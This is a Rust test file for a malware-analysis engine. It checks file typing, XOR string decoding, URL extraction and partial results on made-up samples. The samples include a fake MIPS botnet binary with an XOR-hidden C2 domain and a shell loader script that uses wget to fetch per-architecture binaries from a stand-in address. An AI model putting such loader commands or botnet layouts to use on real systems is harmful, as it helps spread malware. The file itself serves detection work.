//! Whole analyses of made-up samples.

use crate::specimen::{Specimen, hidden, noise};
use crate::{ENGINE, Limits, analyze, interrupted, line};
use ukai_model::{Analysis, ObservableKind, Outcome, StringEncoding, Timestamp};

fn analysis(bytes: &[u8]) -> Analysis {
    analyze(bytes, Timestamp::from_secs(1_700_000_000), &Limits::default(), &mut |_| ())
}

#[test]
fn a_bot_gives_its_list() {
    let data = [
        b"/bin/busybox\0GET /bins/%s HTTP/1.0\0http://dl.example/bins/\0".to_vec(),
        hidden("cnc.botnet.example", 0x22),
        vec![0],
        hidden("198.51.100.23:48101", 0x22),
        noise(2000, 9),
    ];
    let analysis = analysis(&Specimen::mips(data.concat()).build());
    assert_eq!((analysis.engine.as_str(), &analysis.outcome), (ENGINE, &Outcome::Complete));
    let file_type = analysis.file_type.expect("identified");
    assert_eq!(file_type.name, "elf");
    assert_eq!(
        file_type.description,
        "ELF 32-bit MSB executable, MIPS, statically linked, stripped"
    );
    assert_eq!(analysis.elf.expect("headers").machine, "mips");
    let found = |kind, value: &str| {
        let is =
            |it: &&ukai_model::Found| it.observable.kind == kind && it.observable.value == value;
        analysis.observables.iter().find(is).map(|it| it.encoding.clone())
    };
    let xor = StringEncoding::Xor { key: 0x22 };
    assert_eq!(found(ObservableKind::Url, "http://dl.example/bins/"), Some(StringEncoding::Plain));
    assert_eq!(found(ObservableKind::Domain, "dl.example"), Some(StringEncoding::Plain));
    assert_eq!(found(ObservableKind::Domain, "cnc.botnet.example"), Some(xor.clone()));
    assert_eq!(found(ObservableKind::Endpoint, "198.51.100.23:48101"), Some(xor));
    assert_eq!(analysis.observables.len(), 5, "{:?}", analysis.observables);
    assert_eq!(analysis.notes, ["strings are XORed with 0x22"]);
    assert!(analysis.strings.iter().any(|text| text.as_bytes() == b"/bin/busybox"));
}

#[test]
fn a_loader_script_is_run() {
    let script = b"#!/bin/sh\nU=http://192.0.2.10\nfor a in mips arm; do wget $U/$a; done\nwget http://192.0.2.10/plain\n";
    let analysis = analysis(script);
    assert_eq!(analysis.file_type.expect("identified").name, "shell-script");
    let urls: Vec<(&str, &str, u64)> = analysis
        .observables
        .iter()
        .filter(|it| it.observable.kind == ObservableKind::Url)
        .map(|it| (it.observable.value.as_str(), it.method.as_str(), it.offset))
        .collect();
    assert_eq!(
        urls,
        [
            // What is only the beginning of those is not told. Read in the text, and confirmed.
            ("http://192.0.2.10/plain", "script", 74),
            ("http://192.0.2.10/mips", "script", 0),
            ("http://192.0.2.10/arm", "script", 0),
        ]
    );
    assert!(!analysis.commands.is_empty());
}

#[test]
fn a_killed_analysis_leaves_what_it_had() {
    let mut lines = Vec::new();
    let mut stages = Vec::new();
    analyze(b"hello http://c2.example/", Timestamp::default(), &Limits::default(), &mut |stage| {
        stages.push(stage.name);
        if stages.len() <= 3 && stage.news {
            lines.extend(line(stage.so_far));
        }
    });
    assert_eq!(
        stages,
        [
            "type",
            "hashes",
            "strings",
            "xor",
            "base64",
            "configuration",
            "script",
            "yara",
            "unpacking",
            "members"
        ]
    );
    let left = interrupted(&lines, Some("time limit of 10 s")).expect("three lines");
    let reason = "time limit of 10 s during xor".to_owned();
    assert_eq!(left.outcome, Outcome::Partial { reason });
    assert_eq!(left.observables.len(), 2);
    assert!(left.hashes.is_some());
    assert_eq!(interrupted(b"", Some("x")), None);
    assert_eq!(interrupted(b"{\"half\":", None), None);
}
